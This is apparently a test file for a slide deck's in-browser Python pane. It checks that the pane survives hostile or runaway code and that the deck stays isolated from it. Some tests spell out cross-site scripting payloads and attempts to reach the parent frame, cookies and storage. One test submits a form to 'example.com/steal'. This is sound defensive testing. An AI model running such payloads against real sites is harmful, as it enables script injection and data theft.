import { afterEach, beforeAll, describe, expect, test } from 'vitest';
import { hasPython, type LivePane, paneAlive, WITHOUT_PYTHON } from './livePane.ts';
import { openDeck, type OpenDeck } from './page.ts';

/**
 * What the issue calls "It cannot be broken from a pane": each case is code that somebody may well type. After each the deck has
 * answered its keys in time all the while, the pane has said what happened, and the next run works and sees nothing of the last.
 */

/** A Flask project whose one view has this body, below these lines of the module. */
const app = (body: string, module = ''): string => `from flask import Flask\n${module}\napp = Flask(__name__)\n\n@app.route("/")\ndef index():\n${body.replace(/^/gm, '    ')}\n`;

interface Case {
  name: string;
  code: string;
  /** The line below the pane when it is over. */
  says: RegExp;
  /** A part of what the pane shows in place of an answer, or in it. */
  shows: RegExp;
  /** The view to look at for it. */
  view?: string;
}

const ONE_STEP = 'import re\nreturn str(re.match("(a+)+b", "a" * 60))';

const cases: Case[] = [
  { name: 'an endless loop', code: app('while True: pass'), says: /Flask reached the time limit/, shows: /No answer within 5 seconds/ },
  { name: 'an endless loop while it starts', code: 'while True: pass\n', says: /Flask reached the time limit/, shows: /No answer within 5 seconds/ },
  { name: 'an endless loop that catches whatever interrupts it', code: app('while True:\n  try:\n    while True: pass\n  except BaseException: pass'), says: /Flask reached the time limit/, shows: /No answer within 5 seconds/ },
  { name: 'one step that has no end', code: app(ONE_STEP), says: /Flask reached the time limit/, shows: /No answer within 5 seconds/ },
  { name: 'endless output', code: app('while True: print("x" * 1000)'), says: /Flask reached the time limit|Flask: \w*Error/, shows: /No answer within|Error/ },
  { name: '10 MB of output', code: app('print("x" * 10_000_000)\nreturn "done"'), says: /Flask: 200 OK/, shows: /done/, view: 'Page' },
  { name: '10 MB of answer', code: app('return "x" * 10_000_000, {"Content-Type": "text/plain"}'), says: /Flask: 200 OK/, shows: /10,000,000 bytes/ },
  { name: 'a gigabyte of memory', code: app('return str(len(bytearray(2 ** 30)))'), says: /Flask: MemoryError/, shows: /MemoryError/ },
  { name: 'memory piece by piece', code: app('held = []\nwhile True: held.append(bytearray(2 ** 24))'), says: /Flask: MemoryError|Flask broke/, shows: /MemoryError|could not go on/ },
  { name: 'deep recursion', code: app('return index()'), says: /Flask: RecursionError/, shows: /RecursionError/ },
  { name: 'recursion without end that nothing counts', code: app('x = []\nfor _ in range(200_000): x = [x]\nreturn repr(x)'), says: /Flask: RecursionError|Flask: MemoryError|Flask broke/, shows: /Error|could not go on/ },
  { name: 'a syntax error', code: 'def index(:\n', says: /Flask: SyntaxError/, shows: /app\.py, line 1/ },
  { name: 'a missing module', code: 'import nothing_like_this\n', says: /Flask: ModuleNotFoundError/, shows: /No module named 'nothing_like_this'/ },
  { name: 'sys.exit while it answers', code: app('import sys\nsys.exit(3)'), says: /Flask: SystemExit/, shows: /SystemExit: 3/ },
  { name: 'sys.exit while it starts', code: 'import sys\nsys.exit(3)\n', says: /Flask: SystemExit/, shows: /SystemExit: 3/ },
  { name: 'os._exit', code: app('import os\nos._exit(1)'), says: /Flask: ProcessEnded/, shows: /ended the process/ },
  { name: 'app.run()', code: `${app('return "served"')}\napp.run()\n`, says: /Flask: 200 OK/, shows: /served/, view: 'Page' },
  { name: 'a keyboard interrupt', code: app('raise KeyboardInterrupt'), says: /Flask: KeyboardInterrupt/, shows: /KeyboardInterrupt/ },
  { name: 'a way to the page around it', code: app('import js\nreturn "in"'), says: /Flask: ModuleNotFoundError/, shows: /No module named 'js'/ },
];

/** Leaves a trace wherever one run could leave it for the next: modules, builtins, environment, disk, both frameworks. */
const TRACES = app(
  'return "patched"',
  `import builtins, os, sys, json, flask, django.http
builtins.trace = 1
os.environ["TRACE"] = "1"
sys.path.insert(0, "/trace")
sys.setrecursionlimit(200)
for path in ("/tmp/trace", "/home/trace", "trace.txt"):
    open(path, "w").write("x")
json.dumps = None
django.http.HttpResponse.__init__ = None
flask.Flask.full_dispatch_request = lambda self: self.make_response("everything is patched")`,
);
const LOOK = app(
  `return {"builtins": hasattr(builtins, "trace"), "environ": os.environ.get("TRACE"), "path": "/trace" in sys.path, "limit": sys.getrecursionlimit() > 200,
        "disk": [path for path in ("/tmp/trace", "/home/trace", "trace.txt", "../django/trace.txt") if os.path.exists(path)]}`,
  'import builtins, os, sys',
);
const CLEAN = { builtins: false, environ: null, path: false, limit: true, disk: [] };

describe('it cannot be broken from a pane', () => {
  let deck: OpenDeck;
  let pane: LivePane;
  let isLive = false;

  beforeAll(async () => {
    deck = await openDeck('hello/live', { shared: true });
    pane = await paneAlive(deck.page);
    isLive = await hasPython(deck.page);
    if (!isLive) return;
    await pane.side(2).write('app.py', LOOK);
  });

  // A machine that is busy with other things may be late with a key once; a deck that is late is so every time.
  const live = (name: string, run: () => Promise<void>, timeout = 60_000): void =>
    test(name, { timeout, retry: 1 }, async ({ skip }) => {
      if (!isLive) skip(WITHOUT_PYTHON);
      await run();
    });

  /** Turns the page there and back, twice: the longest that a key had to wait, in milliseconds. */
  async function slowestKey(): Promise<number> {
    const { page } = deck;
    await page.evaluate(() => {
      (document.activeElement as HTMLElement).blur();
      const keys = { pressed: 0, slowest: 0 };
      Object.assign(window, { keys });
      addEventListener('keydown', ({ timeStamp }) => {
        keys.pressed += 1;
        // The deck's own listeners have run when this does.
        queueMicrotask(() => (keys.slowest = Math.max(keys.slowest, performance.now() - timeStamp)));
      });
    });
    for (const key of ['ArrowRight', 'ArrowLeft', 'ArrowRight', 'ArrowLeft']) await page.keyboard.press(key);
    const { pressed, slowest } = await page.evaluate(() => (window as unknown as { keys: { pressed: number; slowest: number } }).keys);
    expect(pressed).toBe(4);
    return slowest;
  }

  /** The next run works, and sees nothing of the last one. */
  async function expectFresh(): Promise<void> {
    await pane.side(2).write('app.py', LOOK);
    expect(await pane.run()).toMatch(/^Django: 200 OK in [^.]+\.?\d* ms\. Flask: 200 OK/);
    await pane.side(2).view('JSON').click();
    expect(JSON.parse((await pane.side(2).answer.textContent()) ?? '')).toEqual(CLEAN);
  }

  for (const { name, code, says, shows, view } of cases) {
    live(name, async () => {
      await pane.side(2).write('app.py', code);
      const usual = await slowestKey();
      await deck.page.locator('.slide.present .pane-run').click();
      const slowest = await slowestKey();
      expect(await pane.answered()).toMatch(says);
      if (view) await pane.side(2).view(view).click();
      const shown = view === 'Page' ? pane.side(2).page.locator('body') : pane.side(2).answer;
      expect(await shown.textContent()).toMatch(shows);
      // Beyond what a busy machine takes anyway.
      expect(slowest).toBeLessThan(100 + usual);
      await expectFresh();
    });
  }

  live('Python that patches both frameworks and leaves traces everywhere', async () => {
    await pane.side(2).write('app.py', TRACES);
    await pane.run();
    expect(await pane.side(2).answer.innerHTML()).not.toBe('');
    await expectFresh();
  });

  live('100 runs in a row', async () => {
    const times: number[] = [];
    for (let run = 0; run < 100; run += 1) {
      const before = performance.now();
      expect(await pane.run()).toMatch(/Django: 200 OK.*Flask: 200 OK/);
      times.push(performance.now() - before);
    }
    await expectFresh();
    // Nothing piles up: the last runs are as quick as the first.
    const median = (part: number[]): number => part.toSorted((a, b) => a - b)[Math.floor(part.length / 2)] ?? 0;
    expect(median(times.slice(-20))).toBeLessThan(3 * median(times.slice(0, 20)) + 50);
  }, 180_000);

  live('a run started while one is going takes its place', async () => {
    await pane.side(2).write('app.py', app('while True: pass'));
    await deck.page.locator('.slide.present .pane-run').click();
    await pane.side(2).write('app.py', app('return "the later one"'));
    await deck.page.keyboard.press('Control+Enter');
    expect(await pane.answered()).toMatch(/Flask: 200 OK/);
    await pane.side(2).view('Page').click();
    expect(await pane.side(2).page.locator('body').textContent()).toBe('the later one');
    await expectFresh();
  });

  live('a run can be stopped, and the same Python answers the next', async () => {
    await pane.run();
    // Workers that were ended before this one may still be listed.
    const python = deck.page.workers().at(-1);
    await pane.side(2).write('app.py', app('while True: pass'));
    await deck.page.locator('.slide.present .pane-run').click();
    await deck.page.locator('.slide.present .pane-run', { hasText: 'Stop' }).click();
    expect(await pane.answered()).toMatch(/Flask was stopped/);
    await expectFresh();
    expect(deck.page.workers().at(-1)).toBe(python);
  });

  live('what no signal reaches can be stopped too, with its Python', async () => {
    await pane.side(2).write('app.py', app(ONE_STEP));
    await deck.page.locator('.slide.present .pane-run').click();
    await deck.page.locator('.slide.present .pane-run', { hasText: 'Stop' }).click();
    expect(await pane.answered()).toMatch(/Flask was stopped/);
    await expectFresh();
  });

  live('leaving the slide in the middle of a run', async () => {
    const { page } = deck;
    await pane.side(2).write('app.py', app('while True: pass'));
    await page.locator('.slide.present .pane-run').click();
    const slide = await page.evaluate(() => location.hash);
    await page.evaluate(() => (document.activeElement as HTMLElement).blur());
    await page.keyboard.press('End');
    await page.waitForFunction((before) => location.hash !== before, slide);
    await page.evaluate((hash) => (location.hash = hash), slide);
    expect(await pane.answered()).toMatch(/Flask reached the time limit/);
    await expectFresh();
  });

  live('an answer with scripts: none of them runs', async () => {
    const attacks = `<script>document.body.append('ran'); parent.document.title = 'ran'; localStorage.x = 1; top.location = 'about:blank'</script><img src=x onerror="document.body.append('ran')"><a id=js href="javascript:document.body.append('ran')">x</a><iframe srcdoc="<script>parent.document.body.append('ran')</script>"></iframe><meta http-equiv=refresh content="0;url=https://example.com/"><p>still here`;
    await pane.side(2).write('app.py', app(`return '''${attacks}'''`));
    const title = await deck.page.title();
    await pane.run();
    const { page } = pane.side(2);
    await page.getByText('still here').waitFor();
    await page.locator('#js').click();
    expect(await page.locator('body').textContent()).not.toContain('ran');
    expect(await deck.page.title()).toBe(title);
    await expectFresh();
  });

  live('a page that reaches for parent and storage finds neither', async () => {
    await pane.side(2).write('app.py', app('return "<p>reaching"'));
    await pane.run();
    await pane.side(2).page.getByText('reaching').waitFor();
    // As our own script in the frame could, were it turned against us.
    const reached = await pane.side(2).page.locator('body').evaluate(async () => {
      const attempts: Record<string, () => unknown> = {
        parent: () => parent.document.body.localName,
        top: () => top?.document.title,
        storage: () => localStorage.length,
        session: () => sessionStorage.length,
        cookie: () => document.cookie,
        databases: () => new Promise((resolve, reject) => Object.assign(indexedDB.open('x'), { onsuccess: resolve, onerror: reject })),
        fetch: () => fetch('https://example.com/'),
        home: () => fetch('/'),
      };
      const open: string[] = [];
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          open.push(name);
        } catch {
          // As it should be.
        }
      }
      return open;
    });
    expect(reached).toEqual([]);
    await expectFresh();
  });

  live('a form that posts to another origin is not sent', async () => {
    await pane.side(2).write('app.py', app(`return '<form method=post action="https://example.com/steal"><input name=a value=1><button>Send</button></form>'`));
    await pane.run();
    await pane.side(2).page.locator('button').click();
    await deck.page.waitForFunction(() => document.querySelector('.slide.present .pane-note [role=status]')?.textContent?.includes('leads out of the application'));
    expect(deck.strangers).toEqual([]);
    await expectFresh();
  });

  live('no other place was asked for anything in all this', async () => {
    expect(deck.strangers).toEqual([]);
  });

  afterEach(async () => {
    // A case that failed must not fail the ones after it.
    if (isLive && (await pane.root.getAttribute('data-state')) === 'running') await pane.answered();
  });
});
